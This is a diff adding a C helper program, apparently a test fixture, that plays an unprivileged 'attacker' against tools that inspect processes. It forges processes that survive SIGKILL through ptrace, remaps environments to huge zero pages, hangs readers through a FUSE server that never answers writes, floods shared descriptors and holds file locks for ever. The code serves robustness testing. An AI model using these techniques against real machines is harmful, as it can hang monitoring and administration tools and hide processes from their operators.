@@ -1,0 +1,251 @@
+// What an ordinary account can do to those who look at its processes. Each attack forks what it needs, says "ready" on a
+// line of its own, and lasts until it is killed.
+//
+// usage: attacker forge ENTRY...           a process with this environment that survives SIGKILL
+//        attacker environments COUNT       processes whose environments are 8 MB of zeros
+//        attacker hang COUNT FOLDER        processes whose memory is locked: they wait for a file server that never answers
+//        attacker descriptors COUNT EACH   processes that share so many open files
+//        attacker hold FILE                holds the lock of a file for ever
+//        attacker show                     what a program was handed: says it and ends
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <linux/prctl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/file.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/resource.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static void fail(const char *what) {
+  fprintf(stderr, "attacker: unable to %s: %s\n", what, strerror(errno));
+  exit(1);
+}
+
+static void ready(void) {
+  puts("ready");
+  fflush(stdout);
+}
+
+static pid_t fork_with_us(void) {
+  pid_t pid = fork();
+  if (pid < 0) fail("fork");
+  if (pid == 0) prctl(PR_SET_PDEATHSIG, SIGKILL);
+  return pid;
+}
+
+static void wait_for_ever(void) {
+  while (1) pause();
+}
+
+// A tracee that is stopped in PTRACE_EVENT_EXIT is dying already, and does not hear SIGKILL.
+static void forge(char **entries) {
+  pid_t pid = fork_with_us();
+  if (pid == 0) {
+    ptrace(PTRACE_TRACEME, 0, 0, 0);
+    raise(SIGSTOP);
+    char *words[] = {"true", NULL};
+    execve("/bin/true", words, entries);
+    _exit(1);
+  }
+  int status;
+  waitpid(pid, &status, 0);
+  if (ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACEEXIT | PTRACE_O_EXITKILL) != 0) fail("trace");
+  ptrace(PTRACE_CONT, pid, 0, 0);
+  while (waitpid(pid, &status, 0) == pid && status >> 8 != (SIGTRAP | PTRACE_EVENT_EXIT << 8))
+    ptrace(PTRACE_CONT, pid, 0, 0);
+  printf("%d\n", pid);
+  ready();
+  wait_for_ever();
+}
+
+// Lets our environment be what lies at an address (PR_SET_MM_MAP of prctl(2)).
+static void move_environment(char *start, size_t size) {
+  char text[2048], *rest;
+  int file = open("/proc/self/stat", O_RDONLY);
+  ssize_t length = read(file, text, sizeof text - 1);
+  close(file);
+  if (length <= 0) fail("read /proc/self/stat");
+  text[length] = 0;
+  unsigned long long field[53] = {0};
+  rest = strrchr(text, ')') + 1;
+  for (int number = 3; number <= 51; number++) {
+    while (*rest == ' ') rest++;
+    field[number] = number == 3 ? 0 : strtoull(rest, NULL, 10);
+    while (*rest && *rest != ' ') rest++;
+  }
+  struct prctl_mm_map map = {
+      .start_code = field[26], .end_code = field[27], .start_data = field[45], .end_data = field[46],
+      .start_brk = field[47], .brk = (unsigned long long)(uintptr_t)sbrk(0), .start_stack = field[28],
+      .arg_start = field[48], .arg_end = field[49],
+      .env_start = (unsigned long long)(uintptr_t)start,
+      .env_end = (unsigned long long)(uintptr_t)start + size, .exe_fd = -1};
+  if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0) fail("move the environment");
+}
+
+static void environments(int count) {
+  size_t size = 8 << 20;
+  // The zero page is enough: it costs the account nothing.
+  char *zeros = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  if (zeros == MAP_FAILED) fail("map memory");
+  move_environment(zeros, size);
+  while (count-- > 0)
+    if (fork_with_us() == 0) wait_for_ever();
+  ready();
+  wait_for_ever();
+}
+
+// --- A file server that reads, and never answers what is written ---
+
+static void answer(int device, unsigned long long unique, int error, const void *data, size_t size) {
+  static char bytes[1 << 17];
+  struct fuse_out_header header = {.len = sizeof header + size, .error = error, .unique = unique};
+  memcpy(bytes, &header, sizeof header);
+  if (size) memcpy(bytes + sizeof header, data, size);
+  if (write(device, bytes, header.len) < 0) fail("answer");
+}
+
+static void serve(int device) {
+  static char request[1 << 17], zeros[1 << 16];
+  int opened_before = 0;
+  while (read(device, request, sizeof request) > 0) {
+    struct fuse_in_header *header = (void *)request;
+    struct fuse_attr file = {
+        .ino = header->nodeid, .size = 1 << 16, .mode = header->nodeid == 1 ? S_IFDIR | 0755 : S_IFREG | 0666, .nlink = 1};
+    struct fuse_init_out init = {
+        .major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = 4096};
+    struct fuse_attr_out attributes = {.attr_valid = 3600, .attr = file};
+    struct fuse_entry_out entry = {.nodeid = 2, .entry_valid = 3600, .attr_valid = 3600, .attr = file};
+    struct fuse_open_out opened = {.fh = 1, .open_flags = opened_before ? FOPEN_DIRECT_IO | FOPEN_KEEP_CACHE : 0};
+    entry.attr.ino = 2;
+    entry.attr.mode = S_IFREG | 0666;
+    switch (header->opcode) {
+    case FUSE_INIT: answer(device, header->unique, 0, &init, sizeof init); break;
+    case FUSE_GETATTR: answer(device, header->unique, 0, &attributes, sizeof attributes); break;
+    case FUSE_LOOKUP: answer(device, header->unique, 0, &entry, sizeof entry); break;
+    case FUSE_OPEN:
+      answer(device, header->unique, 0, &opened, sizeof opened);
+      opened_before = 1;
+      break;
+    case FUSE_READ: {
+      struct fuse_read_in *wanted = (void *)(header + 1);
+      answer(device, header->unique, 0, zeros, wanted->size < sizeof zeros ? wanted->size : sizeof zeros);
+      break;
+    }
+    case FUSE_WRITE: case FUSE_FORGET: case FUSE_INTERRUPT: break;
+    default: answer(device, header->unique, -ENOSYS, NULL, 0);
+    }
+  }
+}
+
+static void write_line(const char *path, const char *line) {
+  int file = open(path, O_WRONLY);
+  if (file < 0 || write(file, line, strlen(line)) < 0) fail(path);
+  close(file);
+}
+
+static void hang(int count, const char *folder) {
+  char words[128];
+  int user = getuid(), group = getgid();
+  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) fail("make a user namespace");
+  write_line("/proc/self/setgroups", "deny");
+  snprintf(words, sizeof words, "0 %d 1", user);
+  write_line("/proc/self/uid_map", words);
+  snprintf(words, sizeof words, "0 %d 1", group);
+  write_line("/proc/self/gid_map", words);
+  int device = open("/dev/fuse", O_RDWR);
+  if (device < 0) fail("open /dev/fuse");
+  snprintf(words, sizeof words, "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
+  if (mount("attack", folder, "fuse", MS_NOSUID | MS_NODEV, words) != 0) fail("mount");
+  pid_t server = fork_with_us();
+  if (server == 0) {
+    serve(device);
+    _exit(0);
+  }
+  // The server alone keeps the connection: when it is killed, all who wait go on.
+  close(device);
+  snprintf(words, sizeof words, "%s/file", folder);
+  int file = open(words, O_RDWR);
+  char *memory = file < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
+  if (memory == MAP_FAILED) fail("map the file");
+  memory[0] = 1;
+  // Who maps it for direct access has what is cached written first, and holds the lock of his memory meanwhile.
+  while (count-- > 0) {
+    if (fork_with_us() != 0) continue;
+    int direct = open(words, O_RDWR);
+    if (direct < 0 || mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, direct, 0) == MAP_FAILED) fail("map the file again");
+    wait_for_ever();
+  }
+  usleep(300000);
+  printf("%d\n", server);
+  ready();
+  wait_for_ever();
+}
+
+// --- Descriptors, locks, and what was handed over ---
+
+static int share(void *nothing) {
+  (void)nothing;
+  prctl(PR_SET_PDEATHSIG, SIGKILL);
+  wait_for_ever();
+  return 0;
+}
+
+static void descriptors(int count, int each) {
+  struct rlimit limit;
+  getrlimit(RLIMIT_NOFILE, &limit);
+  limit.rlim_cur = limit.rlim_max;
+  setrlimit(RLIMIT_NOFILE, &limit);
+  int had = 0;
+  while (had < each && dup(0) >= 0) had++;
+  while (count-- > 0) {
+    char *stack = malloc(65536);
+    if (stack == NULL || clone(share, stack + 65536, CLONE_FILES | SIGCHLD, NULL) < 0) fail("clone");
+  }
+  printf("%d\n", had);
+  ready();
+  wait_for_ever();
+}
+
+static void hold(const char *path) {
+  int file = open(path, O_RDONLY);
+  if (file < 0 || flock(file, LOCK_EX | LOCK_NB) != 0) fail("lock it");
+  ready();
+  wait_for_ever();
+}
+
+static void show(char **environment) {
+  char folder[256];
+  int terminal = open("/dev/tty", O_RDWR);
+  printf("terminal %s\n", terminal < 0 ? "none" : "ours");
+  printf("truncates %s\n", ftruncate(1, 0) == 0 ? "yes" : "no");
+  printf("folder %s\n", getcwd(folder, sizeof folder));
+  printf("alone %s\n", getsid(0) == getpid() ? "yes" : "no");
+  for (int fd = 3; fd < 64; fd++)
+    if (fd != terminal && fcntl(fd, F_GETFD) >= 0) printf("descriptor %d\n", fd);
+  for (; *environment; environment++) printf("entry %s\n", *environment);
+}
+
+int main(int count, char **words, char **environment) {
+  const char *what = count > 1 ? words[1] : "";
+  prctl(PR_SET_PDEATHSIG, SIGKILL);
+  if (strcmp(what, "forge") == 0) forge(words + 2);
+  else if (strcmp(what, "environments") == 0 && count == 3) environments(atoi(words[2]));
+  else if (strcmp(what, "hang") == 0 && count == 4) hang(atoi(words[2]), words[3]);
+  else if (strcmp(what, "descriptors") == 0 && count == 4) descriptors(atoi(words[2]), atoi(words[3]));
+  else if (strcmp(what, "hold") == 0 && count == 3) hold(words[2]);
+  else if (strcmp(what, "show") == 0) show(environment);
+  else return 64;
+  return 0;
+}
